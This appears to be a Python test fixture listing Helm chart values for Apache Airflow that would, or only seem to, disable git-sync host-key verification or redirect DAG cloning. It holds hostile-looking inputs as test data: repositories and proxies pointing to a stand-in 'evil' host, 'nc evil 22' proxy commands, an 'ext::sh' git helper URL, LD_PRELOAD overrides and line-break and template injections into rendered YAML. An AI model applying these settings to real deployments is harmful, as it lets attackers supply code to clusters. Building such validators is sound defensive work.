"""Values that would have DAGs cloned from a host nobody verified, and values that only look so.

Each is merged into right values. `REACHES` change a git-sync container of the rendered chart;
`BESIDE` change what Airflow, its tasks or another container does. `TWICE` and `HARMLESS` leave the
verification alone.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Mapping
from typing import Any

Values = Mapping[str, Any]
LOOSE = "ssh -o StrictHostKeyChecking=no"
POD = """
apiVersion: v1
kind: Pod
spec:
  initContainers:
    - name: git-sync-init
      image: registry.k8s.io/git-sync/git-sync:v4.4.2
      env:
        - {name: GITSYNC_REPO, value: "ssh://git@git.example.com/platform/airflow-dags.git"}
        - {name: GITSYNC_REF, value: main}
        - {name: GITSYNC_ROOT, value: /git}
        - {name: GITSYNC_LINK, value: repo}
        - {name: GITSYNC_ONE_TIME, value: "true"}
        - {name: GITSYNC_SSH_KNOWN_HOSTS, value: "true"}
        # more
      volumeMounts:
        - {name: dags, mountPath: /git}
        - {name: git-sync-ssh-key, mountPath: /etc/git-secret/ssh, subPath: gitSshKey}
        - {name: config, mountPath: /etc/git-secret/known_hosts, subPath: known_hosts}
  containers:
    - name: base
      image: apache/airflow:3.2.2
  volumes:
    - {name: config, configMap: {name: airflow-config}}
"""


def sync(**values: Any) -> Values:
    """Values below dags.gitSync."""
    return {"dags": {"gitSync": values}}


def sync_env(name: str, value: str | None) -> Values:
    """One variable of git-sync; without a value, one from a Secret."""
    item: dict[str, Any] = {"name": name}
    item |= {"value": value} if value is not None else secret_key("s", "k")
    return sync(env=[item])


def secret_key(name: str, key: str) -> dict[str, Any]:
    return {"valueFrom": {"secretKeyRef": {"name": name, "key": key}}}


def bundle(**kwargs: str) -> Values:
    """DAGs from a bundle with these arguments, instead of git-sync."""
    item = {
        "name": "dags",
        "classpath": "airflow.providers.git.bundles.git.GitDagBundle",
        "kwargs": {"tracking_ref": "main", **kwargs},
    }
    return {
        "dags": {"gitSync": {"enabled": False}},
        "dagProcessor": {"dagBundleConfigList": [item], "env": [dict(CONNECTION)]},
    }


CONNECTION = {"name": "AIRFLOW_CONN_DAGS", **secret_key("airflow-git-connection", "connection")}
EVIL = "https://evil.example.net/x.git"
REACHES: Mapping[str, Values] = {
    "known hosts off": sync_env("GITSYNC_SSH_KNOWN_HOSTS", "false"),
    "known hosts off by another word": sync_env("GITSYNC_SSH_KNOWN_HOSTS", "F"),
    "known hosts from a Secret": sync_env("GITSYNC_SSH_KNOWN_HOSTS", None),
    "old name": sync_env("GIT_KNOWN_HOSTS", "0"),
    "known hosts by reference": sync(
        env=[{"name": "X", "value": "false"}, {"name": "GIT_KNOWN_HOSTS", "value": "$(X)"}]
    ),
    "known hosts file": sync_env("GITSYNC_SSH_KNOWN_HOSTS_FILE", "/git/known_hosts"),
    "old known hosts file": sync_env("GIT_SSH_KNOWN_HOSTS_FILE", "/dev/null"),
    "key file": sync_env("GITSYNC_SSH_KEY_FILE", "/git/key"),
    "repository": sync_env("GITSYNC_REPO", EVIL),
    "repository, old name": sync_env("GIT_SYNC_REPO", EVIL),
    "ref": sync_env("GITSYNC_REF", "evil"),
    "program": sync_env("GITSYNC_GIT", "/git/repo/git"),
    "hook": sync_env("GITSYNC_EXECHOOK_COMMAND", "/git/repo/hook"),
    "hook, old name": sync_env("GIT_SYNC_HOOK_COMMAND", "/git/repo/hook"),
    "credentials from a URL": sync_env("GITSYNC_ASKPASS_URL", "http://evil.example.net"),
    "credential": sync_env("GITSYNC_CREDENTIAL", '[{"url":"https://evil.example.net"}]'),
    "GitHub's address": sync_env("GITSYNC_GITHUB_BASE_URL", "https://evil.example.net"),
    "config": sync_env("GITSYNC_GIT_CONFIG", f'"url.{EVIL}.insteadOf":"https://git.example.com"'),
    "config, TLS": sync_env("GITSYNC_GIT_CONFIG", "http.sslVerify:false"),
    "config, ssh": sync_env("GIT_SYNC_GIT_CONFIG", 'core.sshCommand:"ssh -F /git/x"'),
    "config after a harmless one": sync_env(
        "GITSYNC_GIT_CONFIG", "http.sslVerify:true,http.proxy:http://evil.example.net"
    ),
    "config by number": sync(
        env=[
            {"name": "GIT_CONFIG_COUNT", "value": "1"},
            {"name": "GIT_CONFIG_KEY_0", "value": "http.sslVerify"},
            {"name": "GIT_CONFIG_VALUE_0", "value": "false"},
        ]
    ),
    "config file": sync_env("GIT_CONFIG_GLOBAL", "/git/repo/config"),
    "system config file": sync_env("GIT_CONFIG_SYSTEM", "/git/repo/config"),
    "config parameters": sync_env("GIT_CONFIG_PARAMETERS", "'http.sslverify=false'"),
    "ssh command": sync_env("GIT_SSH_COMMAND", LOOSE),
    "ssh command, other spelling": sync_env("GIT_SSH_COMMAND", "ssh -oStrictHostKeyChecking=0"),
    "ssh command, own config": sync_env("GIT_SSH_COMMAND", "ssh -F /git/repo/config"),
    "ssh command, proxy": sync_env("GIT_SSH_COMMAND", 'ssh -o ProxyCommand="nc evil 22"'),
    "ssh command, split": sync_env("GIT_SSH_COMMAND", "ssh -o 'StrictHostKeyChecking'=no"),
    "ssh program": sync_env("GIT_SSH", "/git/repo/ssh"),
    "proxy command": sync_env("GIT_PROXY_COMMAND", "/git/repo/proxy"),
    "TLS off": sync_env("GIT_SSL_NO_VERIFY", "1"),
    "TLS authorities": sync_env("GIT_SSL_CAINFO", "/git/repo/ca.pem"),
    "exec path": sync_env("GIT_EXEC_PATH", "/git/repo/bin"),
    "a name of next year": sync_env("GITSYNC_TRUST_ANY_HOST", "1"),
    "PATH": sync_env("PATH", "/git/repo/bin:/usr/bin"),
    "HOME": sync_env("HOME", "/git/repo"),
    "XDG_CONFIG_HOME": sync_env("XDG_CONFIG_HOME", "/git/repo"),
    "LD_PRELOAD": sync_env("LD_PRELOAD", "/git/repo/x.so"),
    "SSH_ASKPASS": sync_env("SSH_ASKPASS", "/git/repo/x"),
    "SSL_CERT_FILE": sync_env("SSL_CERT_FILE", "/git/repo/ca.pem"),
    "HTTPS_PROXY": sync_env("HTTPS_PROXY", "http://proxy.example.com:3128"),
    "https_proxy": sync_env("https_proxy", "http://proxy.example.com:3128"),
    "envFrom a Secret": sync(envFrom="- secretRef: {name: somewhere}\n"),
    "envFrom a ConfigMap": sync(envFrom="- configMapRef: {name: somewhere}\n"),
    "envFrom our ConfigMap": {
        **sync(envFrom="- configMapRef: {name: '{{ .Release.Name }}-git'}\n"),
        "extraConfigMaps": {
            "{{ .Release.Name }}-git": {"useHelmHooks": False, "data": f"GITSYNC_REPO: {EVIL}\n"}
        },
    },
    "envFrom with a prefix": {
        **sync(envFrom="- prefix: GITSYNC_\n  configMapRef: {name: git}\n"),
        "extraConfigMaps": {"git": {"data": f"REPO: {EVIL}\n"}},
    },
    "envFrom by a template": sync(envFrom='{{ printf "- secretRef: {name: %s}" "x" }}'),
    "envFrom that leaves its list": sync(
        envFrom='{{ printf "- secretRef: {name: s}\\nargs: [--ssh-known-hosts=false]" }}'
    ),
    "mount over the host keys": sync(
        extraVolumeMounts=[
            {"name": "mine", "mountPath": "/etc/git-secret/known_hosts", "subPath": "known_hosts"}
        ]
    ),
    "mount over their folder": sync(
        extraVolumeMounts=[{"name": "mine", "mountPath": "/etc/git-secret/"}]
    ),
    "mount by a longer way": sync(
        extraVolumeMounts=[{"name": "mine", "mountPath": "/x/../etc//ssh"}]
    ),
    "mount over git's config": sync(
        extraVolumeMounts=[{"name": "mine", "mountPath": "/etc/gitconfig", "subPath": "c"}]
    ),
    "mount over HOME": sync(
        extraVolumeMounts=[{"name": "mine", "mountPath": "/tmp/.gitconfig", "subPath": "c"}]
    ),
    "mount over programs": sync(extraVolumeMounts=[{"name": "mine", "mountPath": "/usr/bin"}]),
    "mount over authorities": sync(
        extraVolumeMounts=[{"name": "mine", "mountPath": "/etc/ssl/certs"}]
    ),
    "mount by a template": sync(
        extraVolumeMounts=[{"name": "mine", "mountPath": '{{ printf "/etc/%s" "git-secret" }}'}]
    ),
    "mount that adds arguments": sync(
        extraVolumeMounts=[
            {"name": '{{ "mine\\n  mountPath: /x\\nargs: [--ssh-known-hosts=false]\\n#" }}'}
        ]
    ),
    "lifecycle hook": sync(
        containerLifecycleHooks={
            "postStart": {"exec": {"command": ["git", "config", "--global", "x.y", "z"]}}
        }
    ),
    "probe": sync(
        recommendedProbeSetting=False, livenessProbe={"exec": {"command": ["sh", "-c", "true"]}}
    ),
    "probe by a template": sync(
        recommendedProbeSetting=False, livenessProbe={'{{ "exec" }}': {"command": ["true"]}}
    ),
    "image": {"images": {"gitSync": {"repository": "docker.io/evil/git-sync"}}},
    "image with arguments": {
        "images": {"gitSync": {"tag": "v4.4.2\n  args: [--ssh-known-hosts=false]"}}
    },
    "name with arguments": sync(containerName="git-sync\n  args: [--ssh-known-hosts=false]\n  #"),
    "address": sync(repo="git://git.example.com/platform/airflow-dags.git"),
    "address of a helper": sync(repo="ext::sh -c x"),
    "address without TLS": sync(repo="http://git.example.com/a.git"),
    "no host keys": sync(knownHosts=""),
    "no host keys, enabled by a word": sync(knownHosts="", enabled="true"),
    "a git-sync beside": {
        "scheduler": {
            "extraInitContainers": [
                {"name": "git-sync-2", "image": "x", "args": ["--ssh-known-hosts=false"]}
            ]
        },
        "dagProcessor": {
            "extraContainers": [
                {
                    "name": "clone",
                    "image": "registry.k8s.io/git-sync/git-sync:v4.4.2",
                    "args": ["--repo", EVIL, "--root=/git", "-v", "5"],
                }
            ]
        },
    },
    "a git-sync with another command": {
        "triggerer": {
            "extraContainers": [
                {"name": "git-sync-2", "image": "x/git-sync:1", "command": ["sh", "-c", "true"]}
            ]
        }
    },
}
OPTIONS = {"conn_type": "git", "host": "ssh://git@git.example.com/a.git"}
VERIFIED = {"strict_host_key_checking": "yes", "known_hosts_file": "/etc/airflow-git/known_hosts"}
BUNDLES = json.dumps(
    [{"name": "x", "classpath": "a.GitDagBundle", "kwargs": {"repo_url": "git://h/x"}}]
)


def env(name: str, value: str, *at: str) -> Values:
    """A literal variable of all containers, or of one component."""
    found: Any = [{"name": name, "value": value}]
    for key in reversed(at or ("env",)):
        found = {key: found}
    return found  # type: ignore[no-any-return]


def connection(**extra: str) -> str:
    return json.dumps({**OPTIONS, "extra": extra})


BESIDE: Mapping[str, Values] = {
    "env": env("GIT_SSH_COMMAND", LOOSE),
    "component env": env("GIT_SSH_COMMAND", "ssh -F x", "dagProcessor", "env"),
    "set of workers": {"workers": {"celery": {"sets": [{"name": "a", **env("GIT_SSH", "x")}]}}},
    "component env from a Secret": {
        "dagProcessor": {"env": [{"name": "GIT_SSH_COMMAND", **secret_key("s", "k")}]}
    },
    "secret list": {
        "secret": [{"envName": "GIT_SSH_COMMAND", "secretName": "s", "secretKey": "k"}]
    },
    "pod variables": {"config": {"kubernetes_environment_variables": {"GIT_SSH": "/x/ssh"}}},
    "pod variables by name": env("AIRFLOW__KUBERNETES_ENVIRONMENT_VARIABLES__GIT_SSH", "/x"),
    "extraEnv": {"extraEnv": "- name: GIT_SSL_NO_VERIFY\n  value: '1'\n"},
    "extraEnv, escaped": {"extraEnv": '- {"name": "\\x47IT_SSH", "value": "/x/ssh"}\n'},
    "extraEnv, template of the name": {
        "extraEnv": '- name: {{ "git_ssh_command" | upper }}\n  value: ssh -F x\n'
    },
    "extraEnv, block": {
        "extraEnv": "{{- if true }}\n- name: GIT_SSH_COMMAND\n  value: ssh -F x\n{{- end }}\n"
    },
    "extraEnvFrom our ConfigMap": {
        "extraEnvFrom": "- configMapRef: {name: git}\n",
        "extraConfigMaps": {"git": {"data": "GIT_SSH_COMMAND: ssh -F x\n"}},
    },
    "arguments in quotes": {
        "dagProcessor": {"args": ["sh", "-c", 'export "GIT_SSH_COMMAND=ssh -F x"; exec airflow']}
    },
    "arguments": {
        "dagProcessor": {
            "args": ["bash", "-c", "export GIT_SSH_COMMAND='ssh -F x'; exec airflow dag-processor"]
        }
    },
    "settings in Python": {"airflowLocalSettings": 'os.environ["GIT_SSH_COMMAND"] = "ssh -F x"\n'},
    "command": {"scheduler": {"command": ["sh", "-c", "git config --global http.sslVerify false"]}},
    "pod template": {"podTemplate": POD.replace("# more", "- {name: GITSYNC_GIT, value: /x}")},
    "pod template, repository": {"podTemplate": POD.replace("git.example.com", "evil.example.net")},
    "pod template, host keys": {"podTemplate": POD.replace("name: airflow-config", "name: mine")},
    "pod template, other part of the ConfigMap": {
        "podTemplate": POD.replace("subPath: known_hosts", "subPath: airflow.cfg")
    },
    "pod template, part by a variable": {
        "podTemplate": POD.replace("subPath: known_hosts", "subPathExpr: $(X)")
    },
    "pod template, other part of the key": {
        "podTemplate": POD.replace("subPath: gitSshKey", "subPath: other")
    },
    "pod template, hidden": {"podTemplate": "{{ .Files.Get `evil.yaml` }}"},
    "pod template, envFrom": {
        "podTemplate": POD.replace(
            "      env:", "      envFrom: [{secretRef: {name: s}}]\n      env:"
        )
    },
    "pod template in a file": {"config": {"kubernetes_executor": {"pod_template_file": "/x.yaml"}}},
    "pod mutation": {"airflowLocalSettings": "def pod_mutation_hook(pod):\n    pass\n"},
    "ConfigMap of the host keys": {
        "extraConfigMaps": {"airflow-config": {"data": "known_hosts: x"}}
    },
    "ConfigMap by a template": {
        "extraConfigMaps": {"{{ .Release.Name }}-config": {"data": "known_hosts: x"}}
    },
    "volume of the host keys": {
        "scheduler": {"extraVolumes": [{"name": "config", "emptyDir": {}}]}
    },
    "volume of the key": {"volumes": [{"name": "git-sync-ssh-key", "emptyDir": {}}]},
    "a container that writes the clone": {
        "workers": {
            "extraContainers": [
                {"name": "x", "image": "x", "volumeMounts": [{"name": "dags", "mountPath": "/d"}]}
            ]
        }
    },
    "containers by a template": {
        "dagProcessor": {"extraContainers": [{"name": '{{ include "mine" . }}', "image": "x"}]}
    },
    "line break": {"schedulerName": "x\nhostNetwork: true"},
    "line break in an option": {"config": {"core": {"x": "1\n  known_hosts: |-\n    evil ssh-x"}}},
    "line break in an option's name": {"config": {"core": {"x = 1\n  known_hosts": "a"}}},
    "template in an option": {"config": {"core": {"x": '{{ printf "1\\n  known_hosts: evil" }}'}}},
    "connection": env("AIRFLOW_CONN_DAGS", connection(strict_host_key_checking="no")),
    "connection, another word": env(
        "AIRFLOW_CONN_DAGS", connection(strict_host_key_checking="off")
    ),
    "connection by default": env("AIRFLOW_CONN_DAGS", connection()),
    "connection, known hosts": env(
        "AIRFLOW_CONN_DAGS",
        connection(strict_host_key_checking="yes", known_hosts_file="/dev/null"),
    ),
    "connection, proxy command": env(
        "AIRFLOW_CONN_DAGS", connection(**VERIFIED, host_proxy_cmd="nc evil 22")
    ),
    "connection, own config": env(
        "AIRFLOW_CONN_DAGS", connection(**VERIFIED, ssh_config_file="/x")
    ),
    "connection without TLS": env(
        "AIRFLOW_CONN_DAGS", json.dumps({"conn_type": "git", "host": "http://h/x.git"})
    ),
    "connection as a URI": env(
        "AIRFLOW_CONN_DAGS", "git://git@git.example.com/a.git?strict_host_key_checking=no"
    ),
    "connection as a URI, escaped": env(
        "AIRFLOW_CONN_DAGS", "git://h/a.git?strict%5Fhost_key_checking=no"
    ),
    "connection as a URI, extra": env(
        "AIRFLOW_CONN_DAGS", "git://h/a?__extra__=%7B%22strict_host_key_checking%22%3A%22no%22%7D"
    ),
    "connection of ssh": env("AIRFLOW_CONN_BOX", "ssh://h?no_host_key_check=true"),
    "connection of ssh as JSON": env(
        "AIRFLOW_CONN_BOX",
        json.dumps({"conn_type": "ssh", "host": "h", "extra": '{"no_host_key_check": true}'}),
    ),
    "connection in a ConfigMap": {
        "extraConfigMaps": {"c": {"data": "AIRFLOW_CONN_DAGS: git://h?strict_host_key_checking=no"}}
    },
    "bundle without TLS": bundle(repo_url="http://h/x.git"),
    "bundle of a helper": bundle(repo_url="ext::sh -c x"),
    "bundle without host keys": bundle(repo_url="ssh://git@h/x.git"),
    "bundle, unknown connection": bundle(git_conn_id="others"),
    "bundle, secrets backend": {
        **bundle(git_conn_id="dags"),
        "config": {"secrets": {"backend": "x.VaultBackend", "backend_kwargs": "{}"}},
    },
    "bundle, backend as a variable": {
        **bundle(git_conn_id="dags"),
        **env("AIRFLOW__SECRETS__BACKEND", "x.VaultBackend"),
    },
    "bundle, envFrom": {
        **bundle(git_conn_id="dags"),
        "extraEnvFrom": "- secretRef: {name: others, optional: true}\n",
    },
    "bundles as an option": {"config": {"dag_processor": {"dag_bundle_config_list": BUNDLES}}},
    "bundles by a template": {
        "config": {"dag_processor": {"dag_bundle_config_list": '{{ include "mine" . }}'}}
    },
    "bundles by a command": {"config": {"dag_processor": {"dag_bundle_config_list_cmd": "cat x"}}},
    "bundles from a backend": {"config": {"dag_processor": {"dag_bundle_config_list_secret": "x"}}},
    "bundles as a variable": env("AIRFLOW__DAG_PROCESSOR__DAG_BUNDLE_CONFIG_LIST", BUNDLES),
    "bundles by a command's variable": env(
        "AIRFLOW__DAG_PROCESSOR__DAG_BUNDLE_CONFIG_LIST_CMD", "cat x"
    ),
    "bundles from a Secret": {
        "dagProcessor": {
            "env": [
                {"name": "AIRFLOW__DAG_PROCESSOR__DAG_BUNDLE_CONFIG_LIST", **secret_key("s", "k")}
            ]
        }
    },
}
# These leave the verification alone, but the chart sets the same variable: it is rendered twice.
TWICE: Mapping[str, Values] = {
    "depth": sync_env("GIT_SYNC_DEPTH", "1"),
    "address of metrics": sync_env("GITSYNC_HTTP_BIND", ":9001"),
    "failures": sync_env("GITSYNC_MAX_FAILURES", "-1"),
    "known hosts on": sync_env("GITSYNC_SSH_KNOWN_HOSTS", "true"),
    "known hosts file of the chart": sync_env(
        "GITSYNC_SSH_KNOWN_HOSTS_FILE", "/etc/git-secret/known_hosts"
    ),
    "the same repository": sync_env(
        "GITSYNC_REPO", "ssh://git@git.example.com/platform/airflow-dags.git"
    ),
}
HARMLESS: Mapping[str, Values] = {
    "verbosity": sync_env("GITSYNC_VERBOSE", "5"),
    "timeout": sync_env("GITSYNC_SYNC_TIMEOUT", "300s"),
    "old timeout": sync_env("GIT_SYNC_TIMEOUT", "60"),
    "metrics": sync_env("GITSYNC_HTTP_METRICS", "true"),
    "submodules": sync_env("GITSYNC_SUBMODULES", "off"),
    "login from a Secret": sync_env("GIT_SYNC_USERNAME", None),
    "TLS on": sync_env("GITSYNC_GIT_CONFIG", "http.sslVerify:true,http.postBuffer:52428800"),
    "time zone": sync_env("TZ", "Asia/Taipei"),
    "no proxy": sync_env("NO_PROXY", "10.0.0.0/8,.example.com"),
    "strict ssh": env("GIT_SSH_COMMAND", "ssh -o StrictHostKeyChecking=yes -o ConnectTimeout=5"),
    "GitPython": env("GIT_PYTHON_REFRESH", "quiet"),
    "committer": env("GIT_COMMITTER_NAME", "Ada Lovelace"),
    "label": env("GIT_SHA", "0a1b2c3d"),
    "LFS": env("GIT_LFS_SKIP_SMUDGE", "1"),
    "proxy of Airflow": env("HTTPS_PROXY", "http://proxy.example.com:3128"),
    "home of Airflow": env("HOME", "/home/airflow"),
    "Vault and GitHub": env("AIRFLOW_CONN_GITHUB", "http://api.github.com"),
    "database connection": env("AIRFLOW_CONN_DB", "postgresql://db.example.com/x?sslmode=require"),
    "verified connection": env("AIRFLOW_CONN_DAGS", connection(**VERIFIED)),
    "our ConfigMap": {
        "extraEnvFrom": "- configMapRef: {name: '{{ .Release.Name }}-x'}\n",
        "extraConfigMaps": {"{{ .Release.Name }}-x": {"data": "GIT_SHA: abc\nFOO: bar\n"}},
    },
    "log template": {"config": {"logging": {"x": '{{ `{{ ti.dag_id }}` }}/{{ "{{ run_id }}" }}'}}},
    "long option": {"config": {"core": {"x": "a\n     b\n     c\n"}}},
    "checksum": {
        "podAnnotations": {},
        "airflowPodAnnotations": {"x": "{{ .Values.executor | sha256sum }}"},
    },
    "names of the release": {"labels": {"x": "{{ .Release.Name }}-{{ .Values.executor | lower }}"}},
    "mount of its own": {
        **sync(extraVolumeMounts=[{"name": "scratch", "mountPath": "/scratch"}]),
        "volumes": [{"name": "scratch", "emptyDir": {}}],
    },
    "temporary folder": {
        **sync(extraVolumeMounts=[{"name": "tmp", "mountPath": "/tmp"}]),
        "volumes": [{"name": "tmp", "emptyDir": {}}],
    },
    "hook that waits": sync(containerLifecycleHooks={"preStop": {"sleep": {"seconds": 5}}}),
    "a container beside": {
        "scheduler": {
            "extraContainers": [
                {
                    "name": "logs",
                    "image": "fluent-bit:1",
                    "volumeMounts": [{"name": "dags", "mountPath": "/d", "readOnly": True}],
                }
            ]
        }
    },
    "pod template": {"podTemplate": POD},
    "bundle": bundle(git_conn_id="dags"),
    "public bundle": bundle(repo_url="https://git.example.com/x.git"),
    "bundle, backend of variables": {
        **bundle(git_conn_id="dags"),
        "config": {
            "secrets": {"backend": "x.VaultBackend", "backend_kwargs": '{"connections_path": null}'}
        },
    },
}


def merge(values: Values, change: Values) -> dict[str, Any]:
    """Return the values with the change merged in, as Helm merges a second file."""
    merged = copy.deepcopy(dict(values))
    for key, value in change.items():
        before = merged.get(key)
        if isinstance(value, Mapping) and isinstance(before, Mapping):
            merged[key] = merge(before, value)
        else:
            merged[key] = copy.deepcopy(value)
    return merged
